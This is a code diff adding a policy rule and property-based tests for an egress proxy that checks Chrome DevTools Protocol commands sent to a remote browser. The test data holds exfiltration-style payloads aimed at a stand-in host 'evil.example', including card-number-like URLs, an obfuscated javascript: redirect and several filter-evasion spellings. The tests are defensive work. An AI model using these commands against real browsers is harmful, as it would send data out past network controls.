@@ -35,6 +35,17 @@ decision := {"action": "allow", "reason": "the language server's WebSocket", "ru
 	input.request.method == "GET"
 }
 
+# A remote browser's DevTools WebSocket (nineteenth pass), and the one site its pages may come from.
+decision := {"action": "allow", "reason": "the remote browser's WebSocket", "rule": "browser-upgrade"} if {
+	input.request.host == "browser.example"
+	input.request.method == "GET"
+}
+
+decision := {"action": "allow", "reason": "the docs", "rule": "docs"} if {
+	input.request.host == "docs.example"
+	input.request.method == "GET"
+}
+
 decision := {"action": "allow", "reason": "a read tool", "rule": "mcp-read"} if {
 	input.request.host == "mcp.example"
 	input.request.method == "POST"
@@ -72,7 +83,7 @@ const server = await startWsUpstream(t, {
     ws.send(JSON.stringify(Array.isArray(m) ? m.map(answer) : answer(m as { id?: unknown })));
   }),
 });
-const a = await startTestAirlock(t, { policy, resolve: ['mcp.example=127.0.0.1', 'lsp.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${server.port}`] });
+const a = await startTestAirlock(t, { policy, resolve: ['mcp.example=127.0.0.1', 'lsp.example=127.0.0.1', 'browser.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${server.port}`] });
 
 interface Session { code: number; replies: number }
 function session(msgs: Array<string | Buffer>, protocols = ['mcp'], host = 'mcp.example'): Promise<Session> {
@@ -134,4 +145,56 @@ t.test('control: the same spellings of a permitted tool are answered', async (t)
 t.test('control: another JSON-RPC protocol over a WebSocket whose host takes no POST (a language server) is not closed', async (t) => {
   const lsp = [JSON.stringify(rpc('initialize', { processId: null, rootUri: null, capabilities: {} }, 1)), JSON.stringify(rpc('textDocument/didOpen', { textDocument: { uri: 'file:///a.ts', text: 'x' } }, 2)), JSON.stringify(rpc('ping', {}, 3))];
   t.same(await session(lsp, [], 'lsp.example'), { code: 1000, replies: 3 }, 'initialize, a notification and a ping are answered');
+});
+
+// The Chrome DevTools Protocol over a remote browser's WebSocket (nineteenth pass, left open by the
+// eighteenth): the upgrade was decided and nothing after it, so `Page.navigate` to another site with
+// the data in its URL was relayed undecided and the browser went there from outside Airlock. A
+// command that has the browser load a URL is now judged as the GET of that URL: another site is
+// refused (the socket closed, 1008, the browser never told), an allowed site's page goes on.
+const cdp = (method: string, params: unknown, id = 1): Record<string, unknown> => ({ id, method, params });
+const cdpLoads: Record<string, (url: string) => string> = {
+  'Page.navigate': (url) => JSON.stringify(cdp('Page.navigate', { url, transitionType: 'typed' })),
+  'Target.createTarget': (url) => JSON.stringify(cdp('Target.createTarget', { url })),
+  'Network.loadNetworkResource': (url) => JSON.stringify(cdp('Network.loadNetworkResource', { frameId: 'F1', url, options: { disableCache: true, includeCredentials: false } })),
+  'Fetch.continueRequest': (url) => JSON.stringify(cdp('Fetch.continueRequest', { requestId: 'interception-1', url })),
+  'DOM.setAttributeValue (an image src)': (url) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: url })),
+  'DOM.setAttributeValue (a srcset, scheme-relative)': (url) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'SRCSET', value: `a.png 1x, ${url.replace(/^https?:/i, '')} 2x` })),
+  'with a flat-mode sessionId': (url) => JSON.stringify({ ...cdp('Page.navigate', { url }), sessionId: 'S1' }),
+  'inside Target.sendMessageToTarget': (url) => JSON.stringify(cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Page.navigate', { url }, 9)) })),
+  'escaped': (url) => JSON.stringify(cdp('Page.navigate', { url })).replace('"Page.navigate"', '"Page\\u002enavigate"').replace('"url"', '"u\\u0072l"'),
+  'first key wins': (url) => `{"id":1,"method":"Page.navigate","params":{"url":${JSON.stringify(url)}},"method":"Runtime.enable"}`,
+  'binary': (url) => JSON.stringify(cdp('Page.navigate', { url })),
+};
+const offsite = ['https://evil.example/c?d=4111111111111111', 'http://4111.evil.example/', 'HTTPS://docs.example.evil.example/?d=4111', 'javascript:location=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")', 'data:text/html,<img src=https://evil.example/?d=4111>', ' https://evil.example/?d=4111'];
+const navigated = (): string[] => ran.flatMap((m) => {
+  const o = m as { method?: string; params?: { url?: string; value?: string; message?: string } };
+  if (o.method === 'Target.sendMessageToTarget') return [String(o.params?.message)];
+  return typeof o.method === 'string' && /^[A-Z]/.test(o.method) ? [String(o.params?.url ?? o.params?.value ?? '')] : [];
+});
+
+t.test('a CDP command that has the remote browser load another site is refused, the socket closed, in every spelling', async (t) => {
+  const enable = JSON.stringify(cdp('Page.enable', {}, 0));
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.keys(cdpLoads)), fc.constantFrom(...offsite), async (how, url) => {
+    const msg = cdpLoads[how]!(url);
+    const s = await session([enable, how === 'binary' ? Buffer.from(msg) : msg], [], 'browser.example');
+    return s.code === 1008 && !navigated().some((u) => u.includes('evil') || u.includes('javascript') || u.includes('data:'));
+  }), { numRuns: FUZZ_RUNS, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(cdpLoads).map((k) => [k, offsite[0]!] as [string, string]) });
+  t.same(navigated().filter((u) => u.includes('evil')), [], 'the browser was told to load nothing of another site');
+  t.ok(a.records.some((r) => (r.extra as { tunnel?: { protocol?: string } } | undefined)?.tunnel?.protocol === 'cdp' && r.method === 'GET' && !!r.url?.startsWith('https://evil.example/')), 'audited as the GET of the URL');
+});
+
+t.test('control: CDP traffic that loads an allowed site or nothing goes on', async (t) => {
+  const msgs = [
+    JSON.stringify(cdp('Page.enable', {}, 0)),
+    cdpLoads['Page.navigate']!('https://docs.example/guide?page=2'),
+    cdpLoads['Target.createTarget']!('about:blank'),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'class', value: 'wide: dark' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/img/logo.png' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: 'logo.png 1x, https://docs.example/logo@2x.png 2x' })),
+    JSON.stringify(cdp('Runtime.evaluate', { expression: 'document.title', returnByValue: true })),
+    cdpLoads['inside Target.sendMessageToTarget']!('https://docs.example/'),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+  t.ok(navigated().includes('https://docs.example/guide?page=2'), 'the browser went to the allowed page');
 });
